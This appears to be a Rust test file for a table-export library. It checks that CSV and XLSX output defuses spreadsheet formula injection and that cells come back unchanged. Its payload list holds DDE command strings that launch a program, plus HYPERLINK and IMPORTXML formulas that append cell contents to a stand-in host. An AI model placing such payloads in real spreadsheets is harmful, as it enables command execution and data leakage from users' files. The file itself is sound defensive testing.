//! Tables that go out do nothing in the spreadsheet that opens them, and come back as they were (promise I3).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::io::{Cursor, Read, Write};
use std::path::{Path, PathBuf};

use entente_exchange::damage::DamageKind;
use entente_exchange::formula;
use entente_exchange::mapping;
use entente_exchange::repair::{self, RepairChoice};
use entente_exchange::sheets::{self, NamedSheet, SheetRow};
use entente_exchange::sheets_out;
use entente_exchange::table::{self, ReadChoice};
use proptest::prelude::*;

/// What spreadsheets ran once, and what may bring them to it.
const OURS: [&str; 27] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://exemple.invalid?x=\"&A1,\"ici\")",
    "=IMPORTXML(CONCAT(\"http://exemple.invalid\",A1),\"//a\")",
    "x;=1+1",
    "x,=1+1",
    "x\t=1+1",
    "\"=1+1",
    "\";=1+1;\"",
    "x\n=1+1",
    "＝1+1",
    "＠SUM(A1)",
    "'=1+1",
    "''=1+1",
    "--5",
    "{=1+1}",
    "+32 2 123 45 67",
    "\t-0;(",
];

fn payloads() -> Vec<String> {
    let beside = Path::new(&std::env::var("CARGO_MANIFEST_DIR").unwrap()).join("../../../shared/data");
    let named = std::env::var_os("ENTENTE_SHARED_DATA").map(PathBuf::from);
    let others = [Some(beside), named]
        .into_iter()
        .flatten()
        .find_map(|at| std::fs::read_to_string(at.join("e-hostile/csv-injection-payloads.txt")).ok());
    OURS.iter().map(|one| (*one).to_owned()).chain(others.iter().flat_map(|text| text.lines().map(str::to_owned))).collect()
}

fn sheet(rows: &[Vec<String>]) -> NamedSheet {
    let rows = rows.iter().zip(1..).map(|(cells, line)| SheetRow { line, cells: cells.clone() });
    NamedSheet { name: "Feuille".to_owned(), rows: rows.collect() }
}

/// The cells that a program sees that parts a text at `delimiter`, with quotes and without any other rule.
fn seen_by_a_spreadsheet(bytes: &[u8], delimiter: u8) -> Vec<String> {
    let text = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap();
    let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).has_headers(false).flexible(true).from_reader(text);
    reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

fn must_be_harmless(rows: &[Vec<String>]) -> Result<(), TestCaseError> {
    let csv = sheets_out::csv(&sheet(rows)).unwrap();
    // A French or German spreadsheet parts the same file at semicolons.
    for delimiter in [b',', b';', b'\t'] {
        for cell in seen_by_a_spreadsheet(&csv, delimiter) {
            let bare = cell.trim_start_matches(['\t', '\r', '\n', '"']);
            let number = bare
                .strip_prefix('-')
                .is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_digit()) && !rest.contains(['-', '+', '(']));
            prop_assert!(
                !bare.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) || number,
                "{cell:?} of {rows:?} at {delimiter:?}"
            );
        }
    }
    Ok(())
}

fn must_come_back(rows: &[Vec<String>]) -> Result<(), TestCaseError> {
    // A text file ends its lines in one of three ways, and none of them is kept inside a cell.
    let csv = sheets::read(&sheets_out::csv(&sheet(rows)).unwrap(), "x.csv").unwrap();
    let back: Vec<Vec<String>> = csv.sheets[0]
        .rows
        .iter()
        .map(|row| row.cells.iter().map(|cell| formula::without_guard(cell).unwrap_or_else(|| cell.clone())).collect())
        .collect();
    prop_assert_eq!(&back, rows);
    let xlsx = sheets::read(&sheets_out::xlsx(&[sheet(rows)]).unwrap(), "x.xlsx").unwrap();
    let back: Vec<Vec<String>> = xlsx.sheets[0].rows.iter().map(|row| row.cells.clone()).collect();
    prop_assert_eq!(&back, rows);
    Ok(())
}

fn runs_nothing(xlsx: &[u8]) -> bool {
    let mut archive = zip::ZipArchive::new(Cursor::new(xlsx)).unwrap();
    let mut page = String::new();
    archive.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut page).unwrap();
    !page.contains("<f>") && !page.contains("<f ") && !page.contains("<hyperlink")
}

#[test]
fn every_payload_is_harmless_in_a_table_and_comes_back_as_it_was() {
    let payloads = payloads();
    for payload in &payloads {
        let rows =
            vec![vec!["Nom".to_owned(), "Note".to_owned()], vec!["x".to_owned(), payload.clone()], vec![payload.clone(), "y".to_owned()]];
        must_be_harmless(&rows).unwrap();
        must_come_back(&rows).unwrap();
        assert!(runs_nothing(&sheets_out::xlsx(&[sheet(&rows)]).unwrap()), "{payload}");
    }
    // Straight out: the output of a test that passes is withheld.
    writeln!(std::io::stdout().lock(), "\npromise I3 payloads={} formats=2", payloads.len()).unwrap();
}

#[test]
fn a_list_of_partners_with_guarded_cells_names_them_and_comes_back_by_the_repair() {
    let rows: Vec<Vec<String>> = [["Nom", "Téléphone"], ["=Foyer", "+32 2 123 45 67"], ["Maison", "02 123 45 67"]]
        .iter()
        .map(|row| row.map(str::to_owned).to_vec())
        .collect();
    let table = table::read(&sheets_out::csv(&sheet(&rows)).unwrap(), "x.csv", &ReadChoice::default()).unwrap();
    let found: Vec<_> = table.damages.iter().map(|damage| (damage.kind, damage.column, damage.lines.clone())).collect();
    assert_eq!(found, [(DamageKind::FormulaGuard, Some(0), vec![2]), (DamageKind::FormulaGuard, Some(1), vec![2])]);
    assert_eq!(table.rows[0].cells, ["'=Foyer", "'+32 2 123 45 67"], "nothing is taken away unasked");
    let (repaired, done) = repair::repair(&table, &mapping::guess(&table), &[RepairChoice::everywhere(DamageKind::FormulaGuard)]);
    assert_eq!((repaired.rows[0].cells.as_slice(), done.len()), (rows[1].as_slice(), 2));
    assert!(repaired.damages.is_empty());
}

/// Cells of signs that matter to spreadsheets, that never end in nothing: rows are read as far as the last cell that holds something.
fn cell() -> impl Strategy<Value = String> {
    proptest::string::string_regex("[=+@'\"\t\n;,|\\- a-z0-9_xé＝𝄞]{0,10}[a-z(]").unwrap()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_table_is_harmless_and_comes_back(cells in proptest::collection::vec(proptest::collection::vec(cell(), 5), 3..12)) {
        // As the tables of this program are: five columns with headings.
        let headings = ["Thème", "Énoncé", "Groupe", "Mesure", "Valeur"].map(str::to_owned).to_vec();
        let rows: Vec<Vec<String>> = std::iter::once(headings).chain(cells).collect();
        must_be_harmless(&rows)?;
        must_come_back(&rows)?;
    }

    #[test]
    fn any_text_is_given_back_as_it_was_before_it_was_defused(text in "\\PC{0,12}|['=+@\t\r\n-]{0,6}[0-9.,]{0,4}") {
        let out = formula::defused(&text);
        let back = formula::without_guard(&out).unwrap_or_else(|| out.to_string());
        prop_assert_eq!(back, text);
    }
}
